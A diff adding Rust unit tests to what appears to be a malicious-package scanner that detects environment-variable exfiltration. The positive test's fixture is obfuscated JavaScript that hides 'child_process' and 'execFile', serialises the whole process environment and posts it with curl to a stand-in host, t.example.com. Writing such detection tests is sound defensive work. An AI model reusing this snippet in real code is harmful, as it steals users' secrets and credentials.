@@ -296,7 +296,7 @@ fn report(
 
 #[cfg(test)]
 mod tests {
-    use crate::rules::test_util::{PJ, hits, scan};
+    use crate::rules::test_util::{PJ, hits, scan, severity};
 
     /// Secret-named variables harvested at load and mailed through an SMTP transport with
     /// hard-coded credentials (the trusted-service exfiltration of the 2025 Solana stealers).
@@ -552,5 +552,40 @@ mod tests {
             env,
             vec![("build/index.js", 3, diligence_finding::Severity::Medium)]
         );
+    }
+
+    /// The environment serialised by hand (`Object.keys(e).map(k => k + '=' + e[k])`) with
+    /// `process`, `env`, `child_process` and `execFile` hidden, posted by a curl child process.
+    #[test]
+    fn positive_env_serialised_by_hand_posted_with_curl() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "compat.js",
+                "const c = 'c' + 'hild' + '_pr' + 'ocess';\nconst m = [101, 120, 101, 99].map(x => String.fromCharCode(x)).join('');\nconst q = require(c);\nconst k = 'en' + 'v';\nfunction tmp() {\n  const e = process[k];\n  const data = Object.keys(e).map(n => n + '=' + e[n]).join('\\n');\n  q[m + 'File']('curl', ['-s', '--data-binary', data, 'https://t.example.com/t'], () => {});\n}\nmodule.exports = { tmp };\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/env-exfiltration"),
+            vec![("compat.js".to_string(), 8)]
+        );
+        assert_eq!(
+            severity(&s, "code/env-exfiltration"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// The benign look-alike: a child process given a copy of the environment built the same
+    /// way runs a build tool, no network send.
+    #[test]
+    fn negative_env_copied_for_a_child_process() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "run.js",
+                "const cp = require('child_process');\nfunction run() {\n  const e = process.env;\n  const lines = Object.keys(e).map(n => n + '=' + e[n]).join('\\n');\n  cp.execFileSync('make', ['-e', lines]);\n}\nmodule.exports = { run };\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/env-exfiltration"), vec![]);
     }
 }
